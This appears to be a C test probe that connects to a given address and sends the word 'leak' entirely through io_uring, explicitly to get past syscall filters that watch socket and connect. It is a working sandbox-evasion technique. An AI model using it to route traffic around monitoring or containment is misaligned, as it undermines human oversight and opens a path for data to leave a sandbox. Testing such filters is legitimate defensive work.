/* Connects to HOST PORT by io_uring alone and sends a word: neither socket(2) nor connect(2) is called, so that a
 * filter of those does not see it.
 *
 *     cc -O -o iouring_connect iouring_connect.c
 *     ./iouring_connect 127.0.0.1 8080
 *
 * Prints MARK-RAN and exits with 0 when the word was sent; else says which step was refused, and exits with 1.
 * No library but the system's own; the numbers are those of Linux 5.19 and later. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <linux/io_uring.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

/* Headers may be older than the system. */
enum { OP_CONNECT = 16, OP_SEND = 26, OP_SOCKET = 45, ENTER_GETEVENTS = 1 };

static int ring;
static unsigned *sq_tail, *sq_mask, *sq_array, *cq_head, *cq_tail, *cq_mask;
static struct io_uring_sqe *sqes;
static struct io_uring_cqe *cqes;

static void refused(const char *step, int error)
{
	fprintf(stderr, "%s: %s\n", step, strerror(error));
	exit(1);
}

static void *map(size_t size, off_t offset)
{
	void *memory = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring, offset);
	if (memory == MAP_FAILED)
		refused("mmap", errno);
	return memory;
}

static void set_up(void)
{
	struct io_uring_params params = {0};
	ring = syscall(SYS_io_uring_setup, 4, &params);
	if (ring < 0)
		refused("io_uring_setup", errno);
	char *sq = map(params.sq_off.array + params.sq_entries * sizeof(unsigned), IORING_OFF_SQ_RING);
	char *cq = map(params.cq_off.cqes + params.cq_entries * sizeof(struct io_uring_cqe), IORING_OFF_CQ_RING);
	sqes = map(params.sq_entries * sizeof(struct io_uring_sqe), IORING_OFF_SQES);
	sq_tail = (unsigned *)(sq + params.sq_off.tail);
	sq_mask = (unsigned *)(sq + params.sq_off.ring_mask);
	sq_array = (unsigned *)(sq + params.sq_off.array);
	cq_head = (unsigned *)(cq + params.cq_off.head);
	cq_tail = (unsigned *)(cq + params.cq_off.tail);
	cq_mask = (unsigned *)(cq + params.cq_off.ring_mask);
	cqes = (struct io_uring_cqe *)(cq + params.cq_off.cqes);
}

/* Does one operation, and gives its result. */
static int operate(const char *step, const struct io_uring_sqe *wanted)
{
	unsigned tail = *sq_tail, place = tail & *sq_mask;
	sqes[place] = *wanted;
	sq_array[place] = place;
	__atomic_store_n(sq_tail, tail + 1, __ATOMIC_RELEASE);
	if (syscall(SYS_io_uring_enter, ring, 1, 1, ENTER_GETEVENTS, NULL, 0) < 0)
		refused("io_uring_enter", errno);
	unsigned head = *cq_head;
	if (head == __atomic_load_n(cq_tail, __ATOMIC_ACQUIRE))
		refused(step, EAGAIN);
	int result = cqes[head & *cq_mask].res;
	__atomic_store_n(cq_head, head + 1, __ATOMIC_RELEASE);
	if (result < 0)
		refused(step, -result);
	return result;
}

int main(int argc, char **argv)
{
	struct sockaddr_in address = {.sin_family = AF_INET};
	if (argc != 3 || inet_pton(AF_INET, argv[1], &address.sin_addr) != 1) {
		fprintf(stderr, "usage: %s ADDRESS PORT\n", argv[0]);
		return 2;
	}
	address.sin_port = htons((unsigned short)atoi(argv[2]));
	set_up();
	/* The domain goes where others have a descriptor, the type where they have an offset. */
	int connection = operate("socket", &(struct io_uring_sqe){.opcode = OP_SOCKET, .fd = AF_INET, .off = SOCK_STREAM});
	operate("connect", &(struct io_uring_sqe){.opcode = OP_CONNECT,
						   .fd = connection,
						   .addr = (unsigned long)&address,
						   .off = sizeof address});
	static const char word[] = "leak\n";
	operate("send", &(struct io_uring_sqe){
				.opcode = OP_SEND, .fd = connection, .addr = (unsigned long)word, .len = sizeof word - 1});
	puts("MARK-RAN");
	return 0;
}
